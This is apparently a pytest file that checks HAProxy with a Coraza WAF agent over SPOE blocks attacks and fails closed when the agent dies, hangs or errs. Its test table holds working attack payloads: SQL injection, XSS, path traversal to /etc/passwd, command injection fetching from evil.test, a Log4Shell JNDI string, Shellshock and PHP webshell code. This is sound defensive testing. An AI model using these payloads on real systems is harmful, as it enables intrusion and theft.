"""A WAF behind SPOE: Coraza with its core rule set (coraza/) judges requests and responses as it does alone, and whatever keeps it from
judging lets nothing pass.

The configuration below is the documented one: fail closed. `--haproxy` runs the tests with the reference program.
"""
import base64
import json
import os
import signal
import socket
import subprocess
import threading

import pytest

from lib import golang
from lib.origin import Server
from lib.program import Folder, Program, connects, free_port, wait_until

# One worker of a run builds the agent, which takes minutes in a new checkout, and all tests share it.
pytestmark = [pytest.mark.xdist_group("coraza"), pytest.mark.timeout(1500)]

CONFIGURATION = """
global
  maxconn 100
defaults
  mode http
  timeout connect 1s
  timeout client 10s
  timeout server 10s
frontend web
  bind 127.0.0.1:{port}
  unique-id-format %[uuid()]
  filter spoe engine coraza config {engine}
  # The agent gets the body that the buffer (16 kB) holds. Whatever does not fit it with its head is refused before: a part of a body
  # would be judged for the whole. In a body without a length, only a full buffer shows that a part is missing.
  http-request wait-for-body time 5s
  http-request set-var(txn.head) req.hdrs,length
  http-request set-var(txn.seen) req.body_len
  http-request deny deny_status 413 if {{ req.body_size,sub(txn.seen) gt 0 }}
  http-request deny deny_status 413 if {{ var(txn.seen),add(txn.head) gt 12000 }}
  http-request send-spoe-group coraza requests
  # An agent that is gone, late, or unable sets this variable, by set-on-error or itself.
  http-request deny deny_status 503 if {{ var(txn.waf.error) -m found }}
  http-request silent-drop if {{ var(txn.waf.action) -m str drop }}
  http-request redirect code 302 location %[var(txn.waf.data)] if {{ var(txn.waf.action) -m str redirect }}
  http-request deny deny_status 403 hdr x-rule %[var(txn.waf.ruleid)] if {{ var(txn.waf.action) -m str deny }}
  # An answer without a verdict.
  http-request deny deny_status 503 unless {{ var(txn.waf.action) -m str allow }}
  http-request set-var(txn.id) unique-id
  http-request unset-var(txn.waf.action)
  http-response wait-for-body time 5s
  http-response send-spoe-group coraza responses
  http-response deny deny_status 503 if {{ var(txn.waf.error) -m found }}
  http-response deny deny_status 403 hdr x-rule %[var(txn.waf.ruleid)] if {{ var(txn.waf.action) -m str deny }}
  http-response deny deny_status 503 unless {{ var(txn.waf.action) -m str allow }}
  default_backend app
backend app
  server app1 127.0.0.1:{origin}
backend agents
  mode {mode}
  {check}
  timeout connect 1s
  timeout server 10s
  # A stream that waits for a judge that is gone should hear soon.
  retries 1
  server agent1 127.0.0.1:{agent}
"""
ENGINE = """
[coraza]
spoe-agent coraza-agent
  groups requests responses
  option var-prefix waf
  option set-on-error error
  register-var-names action status ruleid data error
  timeout processing {timeout}
  use-backend agents
spoe-group requests
  messages coraza-req
spoe-group responses
  messages coraza-res
spoe-message coraza-req
  args id=unique-id src-ip=src src-port=src_port dst-ip=dst dst-port=dst_port method=method path=path query=query version=req.ver {headers} body=req.body
spoe-message coraza-res
  args id=var(txn.id) version=res.ver status=status headers=res.hdrs body=res.body
"""
# Rules of our own for the verdicts that the core rule set does not have.
RULES = """
SecRule REQUEST_URI "@streq /elsewhere" "id:1000001,phase:1,redirect:https://login.test/,log"
SecRule REQUEST_URI "@streq /vanish" "id:1000002,phase:1,drop,log"
SecRule REQUEST_URI "@beginsWith /always?" "id:1000003,phase:1,allow,nolog"
"""
FORM = ("Content-Type", "application/x-www-form-urlencoded")
JSON = ("Content-Type", "application/json")
XML = ("Content-Type", "text/xml")
PART = ("Content-Type", "multipart/form-data; boundary=b")


def case(name, path, action, *headers, method=None, body=b""):
    """A request, and the verdict that it is expected to get: a check of the table itself, for the verdict of Coraza alone decides."""
    return {"name": name, "path": path, "action": action, "headers": headers, "method": method or ("POST" if body else "GET"), "body": body}


CASES = [
    case("a_page", "/", "allow"),
    case("a_query", "/search?q=red+shoes&page=2", "allow"),
    case("a_static_file", "/css/site.css?v=12", "allow", ("Accept", "text/css")),
    case("cookies", "/", "allow", ("Cookie", "session=abc123; theme=dark")),
    case("a_form", "/login", "allow", FORM, body=b"user=joe&password=correct+horse"),
    case("json", "/api", "allow", JSON, body=b'{"name": "Joe", "items": [1, 2, 3]}'),
    case("an_upload", "/upload", "allow", PART, body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n'
         b"hello\r\n--b--\r\n"),
    case("an_apostrophe", "/search?q=O%27Brien", "allow"),
    case("umlauts", "/search?q=M%C3%BCnchen", "allow"),
    case("head", "/", "allow", method="HEAD"),
    case("sql_in_a_query", "/item?id=1%27%20OR%20%271%27=%271", "deny"),
    case("sql_union", "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", "deny"),
    case("sql_in_a_form", "/login", "deny", FORM, body=b"user=admin%27--+-&password=x%27+OR+1%3D1%23"),
    case("sql_sleep", "/item?id=1;SELECT%20SLEEP(5)", "deny"),
    case("sql_in_json", "/api", "deny", JSON, body=b'{"id": "1\' UNION SELECT password FROM users-- -"}'),
    case("sql_in_a_cookie", "/", "deny", ("Cookie", "id=1' UNION SELECT password FROM users-- -")),
    case("a_script", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "deny"),
    case("an_image_with_a_handler", "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "deny"),
    case("a_script_in_a_form", "/comment", "deny", FORM, body=b"text=%3Csvg%2Fonload%3Dalert%281%29%3E"),
    case("a_script_in_a_field", "/", "deny", ("Referer", "http://x.test/<script>alert(1)</script>")),
    case("a_file_of_the_system", "/get?file=../../../../etc/passwd", "deny"),
    case("an_escaped_file_of_the_system", "/get?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd", "deny"),
    case("a_file_in_the_path", "/static/..%2f..%2fetc/shadow", "deny"),
    case("a_file_in_a_form", "/get", "deny", FORM, body=b"file=/etc/passwd"),
    case("a_command", "/ping?host=127.0.0.1;cat%20/etc/passwd", "deny"),
    case("a_command_in_a_form", "/ping", "deny", FORM, body=b"host=%24%28wget+http%3A%2F%2Fevil.test%2Fx%29"),
    case("log4shell", "/", "deny", ("X-Api-Version", "${jndi:ldap://evil.test/a}")),
    case("shellshock", "/", "deny", ("User-Agent", "() { :; }; /bin/bash -c id")),
    case("php_code", "/x?c=%3C?php%20system($_GET[0]);?%3E", "deny"),
    case("a_remote_file", "/x?page=http://127.0.0.1/shell.txt", "deny"),
    case("a_scanner", "/", "deny", ("User-Agent", "sqlmap/1.7")),
    case("an_xml_entity", "/api", "allow", XML, body=b"<?xml version='1.0'?><a>b</a>"),
    case("an_upload_of_php", "/upload", "deny", PART, body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n'
         b"<?php system($_GET['c']); ?>\r\n--b--\r\n"),
    case("a_restricted_file", "/.git/config", "deny"),
    case("redirected", "/elsewhere", "redirect"),
    case("dropped", "/vanish", "drop"),
    case("allowed_by_a_rule", "/always?id=1%27%20OR%20%271%27=%271", "allow"),
]


@pytest.fixture(scope="module")
def agent():
    """The path of the agent."""
    return golang.program(os.path.join(os.path.dirname(os.path.abspath(__file__)), "coraza"), "coraza")


class Waf:
    """The agent and the proxy of one test."""

    def __init__(self, request, agent, binary, origin):
        self.agent, self.origin = agent, origin
        self.haproxy = request.config.getoption("haproxy")
        self.binary = self.haproxy or binary
        self.folder = request.getfixturevalue("folder")
        self.started = []
        self.agent_port, self.port = free_port(), free_port()
        self.rules = self.folder.file("rules.conf", RULES)

    def run(self, *command):
        program = Program(*command).__enter__()
        self.started.append(program)
        return program

    def start_agent(self):
        self.judge = self.run(self.agent, "-listen", f"127.0.0.1:{self.agent_port}", "-rules", self.rules)
        assert wait_until(lambda: connects(self.agent_port), 30), "the agent does not listen"

    def start(self, mode="spop", check="", timeout="5s", headers="headers=req.hdrs"):
        engine = self.folder.file("engine.conf", ENGINE.format(timeout=timeout, headers=headers))
        text = CONFIGURATION.format(port=self.port, engine=engine, origin=self.origin.port, agent=self.agent_port, mode=mode, check=check)
        self.run(self.binary, "-db", "-f", self.folder.file("weir.cfg", text)).ready(self.port)
        return self

    def stop(self):
        for program in reversed(self.started):
            program.__exit__()

    def ask(self, one=CASES[0], chunked=False, seconds=15):
        """Status and fields of the response to a request of the table; status None without a response."""
        with socket.create_connection(("127.0.0.1", self.port), seconds) as client:
            head, body = message(one, chunked)
            try:
                client.sendall(head + body)
                got = b"".join(iter(lambda: client.recv(65536), b""))
            except (ConnectionError, TimeoutError):
                return None, {}
        if not got:
            return None, {}
        lines = got.partition(b"\r\n\r\n")[0].decode("latin-1").split("\r\n")
        return int(lines[0].split(" ")[1]), {name.lower(): value for name, _, value in (line.partition(": ") for line in lines[1:])}


def fields(one, chunked=False):
    """The header fields of a request, which Coraza alone gets too."""
    own = [name for name, _ in one["headers"]]
    usual = [("Host", "shop.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0)"), ("Accept", "*/*")]
    framing = [("Transfer-Encoding", "chunked")] if chunked else [("Content-Length", str(len(one["body"])))] if one["body"] else []
    return [*(pair for pair in usual if pair[0] not in own), *one["headers"], *framing, ("Connection", "close")]


def message(one, chunked=False):
    """Head and body of a request."""
    head = f"{one['method']} {one['path']} HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in fields(one, chunked))
    body = one["body"]
    if chunked:
        body = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in [*(body[at:at + 1000] for at in range(0, len(body), 1000)), b""])
    return head.encode() + b"\r\n", body


@pytest.fixture
def waf(request, agent, binary, origin):
    """A running agent; the test starts the proxy."""
    made = Waf(request, agent, binary, origin)
    made.start_agent()
    yield made
    made.stop()


@pytest.fixture(scope="module")
def verdicts(agent):
    """The verdict of Coraza alone on each request of the table."""
    with Folder() as folder:
        requests = [{"method": one["method"], "path": one["path"].partition("?")[0], "query": one["path"].partition("?")[2], "version": "1.1",
                     "headers": fields(one), "body": base64.b64encode(one["body"]).decode(), "src-ip": "127.0.0.1", "dst-ip": "127.0.0.1"} for one in CASES]
        done = subprocess.run([agent, "-alone", "-rules", folder.file("rules.conf", RULES)], input=json.dumps(requests), capture_output=True, text=True,
                              timeout=120)
    assert done.returncode == 0, done.stderr
    return dict(zip((one["name"] for one in CASES), json.loads(done.stdout)))


def test_coraza_alone_gives_the_verdicts_of_the_table(verdicts):
    assert {name: verdict["action"] for name, verdict in verdicts.items()} == {one["name"]: one["action"] for one in CASES}


@pytest.mark.parametrize("headers", ["headers=req.hdrs", "headers=req.hdrs_bin"], ids=["text", "binary"])
def test_verdicts_are_those_of_coraza_alone(waf, verdicts, headers):
    waf.start(headers=headers)
    expected, seen = {}, {}
    for one in CASES:
        verdict = verdicts[one["name"]]
        expected[one["name"]] = {"allow": (200, None), "drop": (None, None), "redirect": (302, verdict["data"])}.get(
            verdict["action"], (verdict["status"], str(verdict["ruleid"])))
        # The client of a silent drop hears nothing.
        status, got = waf.ask(one, seconds=1 if verdict["action"] == "drop" else 15)
        seen[one["name"]] = (status, got.get("x-rule", got.get("location")))
    assert seen == expected
    assert len(waf.origin.requests) == sum(verdict["action"] == "allow" for verdict in verdicts.values())


def test_verdicts_are_right_for_many_at_once(waf, verdicts):
    waf.start()
    cases = [one for one in CASES if one["action"] in ("allow", "deny")] * 4
    wrong = []

    def ask(part):
        for one in part:
            want = 200 if one["action"] == "allow" else 403
            if (status := waf.ask(one)[0]) != want:
                wrong.append((one["name"], status))
    threads = [threading.Thread(target=ask, args=(cases[number::8],)) for number in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert not wrong


def test_a_tcp_backend_of_agents_works_too(waf):
    """All published configurations have one."""
    waf.start(mode="tcp")
    assert [waf.ask(one)[0] for one in (CASES[0], CASES[10])] == [200, 403]


def test_a_response_that_leaks_is_denied(waf):
    waf.start()
    leak = b"<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</p>"
    waf.origin.answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(leak) + leak
    status, got = waf.ask()
    assert (status, got.get("x-rule")) == (403, "959100")


# What fails closed.

@pytest.mark.parametrize("size", [12100, 16384, 65536, 3000000])
@pytest.mark.parametrize("chunked", [False, True], ids=["length", "chunked"])
def test_a_body_that_does_not_fit_is_denied(waf, size, chunked):
    """The attack stands behind the part that the agent would see."""
    waf.start()
    attack = b"a=" + b"x" * size + b"&id=1%27+UNION+SELECT+password+FROM+users--"
    status, _ = waf.ask(case("", "/login", "", FORM, body=attack), chunked)
    # A reset may destroy the response on the way.
    assert status in (413, None) and not waf.origin.requests


def test_a_body_that_a_large_head_crowds_out_is_denied(waf):
    waf.start()
    for chunked in (False, True):
        one = case("", "/login", "", FORM, ("X-Filler", "f" * 9000), body=b"a=" + b"x" * 7000 + b"&id=1%27+UNION+SELECT+password+FROM+users--")
        assert waf.ask(one, chunked)[0] in (413, None)
    assert not waf.origin.requests


@pytest.mark.parametrize("chunked", [False, True], ids=["length", "chunked"])
def test_the_largest_body_is_judged_to_its_end(waf, chunked):
    """The bytes of the attack are the last ones."""
    waf.start()
    for body, want in [(b"a=" + b"x" * 11000, 200), (b"a=" + b"x" * 11000 + b"&id=1%27+UNION+SELECT+password+FROM+users--", 403)]:
        assert waf.ask(case("", "/login", "", FORM, body=body), chunked)[0] == want


def test_an_agent_that_is_gone_lets_nothing_pass(waf):
    waf.start()
    assert waf.ask()[0] == 200
    waf.judge.send(signal.SIGKILL)
    waf.judge.status()
    assert [waf.ask()[0] for _ in range(3)] == [503] * 3
    assert len(waf.origin.requests) == 1
    waf.start_agent()
    assert wait_until(lambda: waf.ask()[0] == 200)


def test_an_agent_that_hangs_lets_nothing_pass(waf):
    waf.start(timeout="300ms")
    assert waf.ask()[0] == 200
    waf.judge.send(signal.SIGSTOP)
    assert waf.ask()[0] == 503
    waf.judge.send(signal.SIGCONT)
    assert wait_until(lambda: waf.ask()[0] == 200)


def test_an_agent_that_fails_its_check_lets_nothing_pass(waf):
    waf.judge.send(signal.SIGKILL)
    waf.judge.status()
    waf.start(check="option spop-check\n  default-server check inter 50ms fall 1 rise 1")
    assert waf.ask()[0] == 503
    waf.start_agent()
    assert wait_until(lambda: waf.ask()[0] == 200)
    assert len(waf.origin.requests) == 1


def test_an_agent_that_cannot_judge_lets_nothing_pass(waf):
    """An argument is missing."""
    waf.start(headers="other=req.hdrs")
    assert waf.ask()[0] == 503 and not waf.origin.requests


def test_a_server_of_another_protocol_lets_nothing_pass(waf):
    """Its bytes are not frames."""
    with Server(lambda connection: (connection.recv(1000), connection.sendall(b"HTTP/1.1 400 Bad Request\r\n\r\n"))) as other:
        waf.agent_port = other.port
        waf.start(timeout="500ms")
        assert waf.ask()[0] == 503 and not waf.origin.requests
